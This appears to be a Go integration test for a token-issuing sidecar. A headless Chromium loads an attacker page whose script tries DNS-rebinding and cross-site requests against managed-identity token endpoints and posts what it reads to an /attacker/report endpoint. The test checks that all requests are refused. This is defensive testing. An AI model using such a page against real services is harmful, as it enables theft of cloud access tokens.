package sdktest

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// browserCaddyfile serves every directive a web page could aim at, and, on
// /attacker/*, a plain reverse_proxy (no entra directive) to the attacker's
// own server: it stands for the moment before the attacker rebinds its
// name, when http://attacker.test:<port>/ still reached the attacker, so
// that the page's origin is the sidecar's port under the attacker's name.
// The access log records what the sidecar received, without the
// app_service secret.
const browserCaddyfile = sidecarGlobals + `:%[1]d {
	bind 127.0.0.1
	log {
		output stderr
		format filter {
			request>headers>X-Identity-Header delete
			wrap json
		}
	}
	handle_path /orders/* {
		entra_token orders-api
		reverse_proxy {$TEST_UPSTREAM}
	}
	handle /readyz {
		entra_ready
	}
	handle /msi/token {
		entra_token_endpoint app_service {
			secret {env.TEST_IDENTITY_HEADER}
		}
	}
	handle /metadata/identity/oauth2/token* {
		entra_token_endpoint imds
	}
	handle_path /attacker/* {
		reverse_proxy {$TEST_ATTACKER}
	}
	respond 404
}
`

// attackerPage is the page a browser shows, at the sidecar's port: %s is
// the app_service secret as a JSON string. The page is handed the
// secret, so that the browser checks (Host, Origin, Sec-Fetch-Site) are
// the only defence the test exercises. Each attempt carries its name (in
// the path of /orders/, in the attempt parameter elsewhere), so that the
// test can match what the sidecar received to it. The page reports what it
// could read to /attacker/report.
const attackerPage = `<!DOCTYPE html>
<html><body><iframe name="sink"></iframe><script>
const port = location.port, secret = %s;
const results = [];
const appService = "/msi/token?api-version=2019-08-01&resource=api%%3A%%2F%%2Forders&attempt=";
const imds = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=api%%3A%%2F%%2Forders&attempt=";

// attempt fetches url and records what the page could read of the answer.
async function attempt(name, url, init) {
	const r = {name: name};
	try {
		const resp = await fetch(url, Object.assign({signal: AbortSignal.timeout(5000)}, init));
		r.type = resp.type;
		r.status = resp.status;
		if (resp.type !== "opaque") r.body = (await resp.text()).slice(0, 500);
	} catch (e) {
		r.error = String(e);
	}
	results.push(r);
}

// element loads a tag (img, script, or a form posted into the iframe) and
// records whether it loaded; the page can read nothing more of it.
function element(name, build) {
	return new Promise(resolve => {
		const done = outcome => { results.push({name: name, element: outcome}); resolve(); };
		const timer = setTimeout(() => done("timeout"), 5000);
		build(outcome => { clearTimeout(timer); done(outcome); });
	});
}

async function run() {
	const tries = [];
	// DNS rebinding: attacker.test now resolves to 127.0.0.1, so the
	// sidecar's routes are the page's own origin.
	tries.push(attempt("rebind-get", "/orders/rebind-get", {}));
	tries.push(attempt("rebind-post", "/orders/rebind-post", {method: "POST", body: "hello", headers: {"Content-Type": "text/plain"}}));
	tries.push(attempt("rebind-json", "/orders/rebind-json", {method: "POST", body: "{}", headers: {"Content-Type": "application/json"}}));
	tries.push(attempt("rebind-ready", "/readyz?attempt=rebind-ready", {}));
	tries.push(attempt("rebind-appservice", appService + "rebind-appservice", {headers: {"X-IDENTITY-HEADER": secret}}));
	tries.push(attempt("rebind-imds", imds + "rebind-imds", {headers: {"Metadata": "true"}}));
	// Cross-site requests to the sidecar's loopback names.
	for (const [host, base] of [["ip", "http://127.0.0.1:" + port], ["localhost", "http://localhost:" + port]]) {
		const n = s => host + "-" + s;
		tries.push(attempt(n("nocors-get"), base + "/orders/" + n("nocors-get"), {mode: "no-cors"}));
		tries.push(attempt(n("nocors-post"), base + "/orders/" + n("nocors-post"), {mode: "no-cors", method: "POST", body: "hello", headers: {"Content-Type": "text/plain"}}));
		tries.push(attempt(n("cors-get"), base + "/orders/" + n("cors-get"), {}));
		tries.push(attempt(n("cors-json"), base + "/orders/" + n("cors-json"), {method: "POST", body: "{}", headers: {"Content-Type": "application/json"}}));
		tries.push(attempt(n("nocors-ready"), base + "/readyz?attempt=" + n("nocors-ready"), {mode: "no-cors"}));
		tries.push(attempt(n("cors-ready"), base + "/readyz?attempt=" + n("cors-ready"), {}));
		tries.push(attempt(n("cors-appservice"), base + appService + n("cors-appservice"), {headers: {"X-IDENTITY-HEADER": secret}}));
		// no-cors drops a header that is not CORS-safelisted.
		tries.push(attempt(n("nocors-appservice"), base + appService + n("nocors-appservice"), {mode: "no-cors", headers: {"X-IDENTITY-HEADER": secret}}));
		tries.push(attempt(n("cors-imds"), base + imds + n("cors-imds"), {headers: {"Metadata": "true"}}));
		tries.push(attempt(n("nocors-imds"), base + imds + n("nocors-imds"), {mode: "no-cors"}));
		tries.push(element(n("img"), loaded => {
			const img = new Image();
			img.onload = () => loaded("load");
			img.onerror = () => loaded("error");
			img.src = base + "/orders/" + n("img");
		}));
		tries.push(element(n("script"), loaded => {
			const s = document.createElement("script");
			s.onload = () => loaded("load");
			s.onerror = () => loaded("error");
			s.src = base + imds + n("script");
			document.body.appendChild(s);
		}));
	}
	await Promise.all(tries);
	// The form posts are navigations of one iframe: one after the other.
	for (const [host, base] of [["ip", "http://127.0.0.1:" + port], ["localhost", "http://localhost:" + port]]) {
		await element(host + "-form", loaded => {
			const frame = document.querySelector("iframe");
			frame.onload = () => loaded("load");
			const form = document.createElement("form");
			form.method = "POST";
			form.enctype = "text/plain";
			form.target = "sink";
			form.action = base + "/orders/" + host + "-form";
			const input = document.createElement("input");
			input.name = "a";
			input.value = "b";
			form.appendChild(input);
			document.body.appendChild(form);
			form.submit();
		});
	}
	await fetch("/attacker/report", {method: "POST", body: JSON.stringify(results)});
}
run();
</script></body></html>
`

// pageResult is one attempt as the page saw it.
type pageResult struct {
	Name    string
	Type    string // basic, cors or opaque
	Status  int
	Body    string
	Error   string
	Element string // load, error or timeout, for a tag or a form
}

// accessEntry is what the sidecar's access log says of one request.
type accessEntry struct {
	Logger  string `json:"logger"`
	Status  int    `json:"status"`
	Request struct {
		Method  string              `json:"method"`
		Host    string              `json:"host"`
		URI     string              `json:"uri"`
		Headers map[string][]string `json:"headers"`
	} `json:"request"`
}

// attempt returns the attempt a request belongs to: the last segment under
// /orders/, or the attempt parameter.
func (e accessEntry) attempt() string {
	if name, ok := strings.CutPrefix(e.Request.URI, "/orders/"); ok {
		return name
	}
	if _, query, ok := strings.Cut(e.Request.URI, "?"); ok {
		for param := range strings.SplitSeq(query, "&") {
			if name, ok := strings.CutPrefix(param, "attempt="); ok {
				return name
			}
		}
	}
	return ""
}

func (e accessEntry) header(name string) string {
	return strings.Join(e.Request.Headers[name], ", ")
}

// TestARealBrowserGetsNothing drives a real headless Chromium to a page at
// http://attacker.test:<sidecar port>/ (the name resolved to 127.0.0.1, as
// after DNS rebinding) whose script tries every route of the real binary:
// same-origin under the rebound name, and cross-site to 127.0.0.1 and
// localhost (fetch in cors and no-cors modes, GET and POST, a form post, an
// image, a script), the token endpoints with their required headers (the
// page even holds the app_service secret). Checked from outside the page:
// the upstream behind entra_token is never called, no token request is
// made and none handed out, the page reads no token and no upstream
// answer, every request the sidecar received is refused 403, and what
// Chromium sent (Host, Origin, Sec-Fetch-Site) is what SECURITY.md says
// browsers send.
func TestARealBrowserGetsNothing(t *testing.T) {
	chromium := requireTool(t, "chromium", "apt-get install chromium")
	f := newFleet(t)

	var upstreamCalls, upstreamTokens atomic.Int32
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		upstreamCalls.Add(1)
		if r.Header.Get("Authorization") != "" {
			upstreamTokens.Add(1)
		}
		io.WriteString(w, "upstream-answer")
	}))
	t.Cleanup(upstream.Close)

	// The attacker's server: the page, and the page's report.
	reports := make(chan []byte, 1)
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/page":
			secret, _ := json.Marshal(testIdentityHeader)
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, attackerPage, secret)
		case "/report":
			body, _ := io.ReadAll(r.Body)
			select {
			case reports <- body:
			default:
			}
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(attacker.Close)

	s := startReplicaWith(t, browserCaddyfile, f.replicaEnv("TEST_UPSTREAM="+upstream.URL, "TEST_ATTACKER="+attacker.URL))
	port := strings.TrimPrefix(s.URL, "http://127.0.0.1:")

	profile := t.TempDir()
	args := []string{
		"--headless=new", "--disable-gpu", "--enable-logging=stderr", "--user-data-dir=" + profile,
		"--host-resolver-rules=MAP attacker.test 127.0.0.1", "--no-proxy-server",
		// Loopback only: nothing of the browser's own reaches out.
		"--no-first-run", "--no-default-browser-check", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--disable-default-apps",
		"--disable-extensions", "--disable-domain-reliability", "--metrics-recording-only",
		"http://attacker.test:" + port + "/attacker/page",
	}
	if os.Geteuid() == 0 {
		args = append([]string{"--no-sandbox"}, args...) // Chromium's sandbox refuses root
	}
	started := time.Now()
	browser := startProcess(t, []string{"HOME=" + profile, "TMPDIR=" + profile}, chromium, args...)
	var report []byte
	select {
	case report = <-reports:
	case <-time.After(30 * time.Second):
		t.Fatalf("the page sent no report in 30 s; Chromium's output:\n%s\nthe sidecar's:\n%s", browser.Output.String(), s.proc.Output.String())
	}
	t.Logf("Chromium ran the page in %v", time.Since(started).Round(time.Millisecond))
	browser.Stop(t)

	// What the page read.
	var results []pageResult
	if err := json.Unmarshal(report, &results); err != nil {
		t.Fatalf("the page's report: %v", err)
	}
	if strings.Contains(string(report), "eyJ") || strings.Contains(string(report), "access_token") {
		t.Error("the page read a token")
	}
	if strings.Contains(string(report), "upstream-answer") {
		t.Error("the page read the upstream's answer")
	}
	slices.SortFunc(results, func(a, b pageResult) int { return strings.Compare(a.Name, b.Name) })
	attempts := make(map[string]bool)
	for _, r := range results {
		attempts[r.Name] = true
		if r.Type != "" && r.Type != "opaque" && r.Status != http.StatusForbidden {
			t.Errorf("%s: the page read a %d answer, want 403", r.Name, r.Status)
		}
		t.Logf("page %-22s read: %s", r.Name, r.summary())
	}

	// What the sidecar received, and answered.
	seen := make(map[string]bool)
	entries := accessLog(t, s.proc.Output.String())
	slices.SortStableFunc(entries, func(a, b accessEntry) int { return strings.Compare(a.attempt(), b.attempt()) })
	for _, e := range entries {
		name := e.attempt()
		if name == "" {
			continue // the page and its report
		}
		seen[name] = true
		t.Logf("sidecar %-26s %-7s %-31s Host %-22s Origin %-30q Sec-Fetch-Site %-12q Mode %-9q Dest %-8q: %d",
			name, e.Request.Method, strings.SplitN(e.Request.URI, "?", 2)[0], e.Request.Host, e.header("Origin"),
			e.header("Sec-Fetch-Site"), e.header("Sec-Fetch-Mode"), e.header("Sec-Fetch-Dest"), e.Status)
		if e.Status != http.StatusForbidden {
			t.Errorf("%s: the sidecar answered %s %s with %d, want 403", name, e.Request.Method, e.Request.URI, e.Status)
		}
		checkWhatABrowserSends(t, name, e, port)
	}
	// Every attempt reached the sidecar (as itself or as its preflight), so
	// that no browser-side block passes for a defence.
	var missing []string
	for name := range attempts {
		if !seen[name] {
			missing = append(missing, name)
		}
	}
	slices.Sort(missing)
	if len(missing) > 0 {
		t.Errorf("attempts the sidecar never received: %v", missing)
	}
	if len(attempts) != 6+2*13 {
		t.Errorf("the page reported %d attempts, want %d", len(attempts), 6+2*13)
	}

	if n := upstreamCalls.Load(); n != 0 {
		t.Errorf("the upstream behind entra_token was called %d times (%d with a token)", n, upstreamTokens.Load())
	}
	if n := f.emulator.TokenRequests(); n != 0 {
		t.Errorf("the page's requests made %d token requests, want none", n)
	}
	for _, protocol := range []string{"app_service", "imds"} {
		if n := s.handedOut(t, protocol); n != 0 {
			t.Errorf("the %s endpoint handed out %d tokens", protocol, n)
		}
	}
	assertNoSecrets(t, s.proc.Output.String())
}

// checkWhatABrowserSends compares what Chromium sent for attempt name with
// what SECURITY.md says browsers send: the page's name in Host when
// rebound, no Fetch Metadata to a plain-HTTP DNS name, Sec-Fetch-Site:
// cross-site to loopback addresses and localhost, Origin on a POST and on
// a CORS request.
func checkWhatABrowserSends(t *testing.T, name string, e accessEntry, port string) {
	t.Helper()
	site := e.header("Sec-Fetch-Site")
	origin := e.header("Origin")
	switch {
	case strings.HasPrefix(name, "rebind-"):
		if e.Request.Host != "attacker.test:"+port {
			t.Errorf("%s: Host %q, want the page's name attacker.test:%s", name, e.Request.Host, port)
		}
		if site != "" {
			t.Errorf("%s: Sec-Fetch-Site %q to a plain-HTTP DNS name; SECURITY.md says browsers send none there", name, site)
		}
	case strings.HasPrefix(name, "ip-"), strings.HasPrefix(name, "localhost-"):
		host := "127.0.0.1:" + port
		if strings.HasPrefix(name, "localhost-") {
			host = "localhost:" + port
		}
		if e.Request.Host != host {
			t.Errorf("%s: Host %q, want %q", name, e.Request.Host, host)
		}
		if site != "cross-site" {
			t.Errorf("%s: Sec-Fetch-Site %q, want cross-site: SECURITY.md says browsers send it to loopback addresses and localhost", name, site)
		}
	}
	cors := e.header("Sec-Fetch-Mode") == "cors"
	if (e.Request.Method != http.MethodGet && e.Request.Method != http.MethodHead || cors && !strings.HasPrefix(name, "rebind-")) &&
		origin != "http://attacker.test:"+port {
		t.Errorf("%s: %s (mode %q) with Origin %q, want the page's origin http://attacker.test:%s",
			name, e.Request.Method, e.header("Sec-Fetch-Mode"), origin, port)
	}
}

// summary is what the page read, for the log: never a body holding a token.
func (r pageResult) summary() string {
	switch {
	case r.Element != "":
		return "element " + r.Element
	case r.Error != "":
		return "error " + r.Error
	case r.Type == "opaque":
		return "an opaque answer (nothing readable)"
	case strings.Contains(r.Body, "eyJ"):
		return fmt.Sprintf("%s %d (a body holding a token)", r.Type, r.Status)
	}
	return fmt.Sprintf("%s %d %.120s", r.Type, r.Status, r.Body)
}

// accessLog returns the access log entries in a replica's output.
func accessLog(t *testing.T, output string) []accessEntry {
	t.Helper()
	var entries []accessEntry
	scanner := bufio.NewScanner(strings.NewReader(output))
	scanner.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	for scanner.Scan() {
		line := scanner.Text()
		if !strings.Contains(line, `"http.log.access`) {
			continue
		}
		var e accessEntry
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("an access log line: %v", err)
		}
		entries = append(entries, e)
	}
	return entries
}
